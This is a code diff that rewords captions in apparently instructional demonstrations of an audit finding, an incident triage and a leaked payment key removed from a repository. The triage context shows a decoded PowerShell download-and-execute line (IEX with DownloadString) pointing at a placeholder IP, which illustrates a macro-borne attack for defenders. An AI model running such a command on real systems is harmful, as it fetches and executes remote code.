@@ -58,7 +58,7 @@ const audit: Demonstration = {
         'EVIDENCE     AI-09: live in May, approved in July',
         'EXTENT       one of three sampled',
       ],
-      caption: 'The finding stands on its own: what was required, what was seen, and how far the sample reaches.',
+      caption: 'The finding is complete: what was required, what was seen, and how far the sample reaches.',
     },
   ],
 };
@@ -84,7 +84,7 @@ const triage: Demonstration = {
         '09:14:20  winword.exe   opened invoice_0914.docm',
         '09:14:22  powershell.exe -enc SQBFAFgA...',
       ],
-      caption: 'The minute before: a document with macros came by e-mail and was opened. The command is encoded.',
+      caption: 'The minute before: a document with macros came by email and was opened. The command is encoded.',
     },
     {
       lines: ['$ decode SQBFAFgA...', 'IEX (New-Object Net.WebClient)', '  .DownloadString("http://203.0.113.44/u")'],
@@ -132,7 +132,8 @@ const pipeline: Demonstration = {
         '$ git branch --remotes --contains 4be91c2',
         '  origin/feature/refunds',
       ],
-      caption: 'It came with one commit and has been pushed. Whoever can read the repository can have read the key.',
+      caption:
+        'It came with one commit and has been pushed. Anyone with access to the repository may have read the key.',
     },
     {
       lines: [
@@ -149,7 +150,7 @@ const pipeline: Demonstration = {
         '+ # PAYMENT_KEY comes from the secret store',
         'pipeline 2209   secret-scan  passed',
       ],
-      caption: 'The new key stands in the secret store and is handed to the tests when they run.',
+      caption: 'The new key is in the secret store, and the tests get it when they run.',
     },
     {
       lines: [
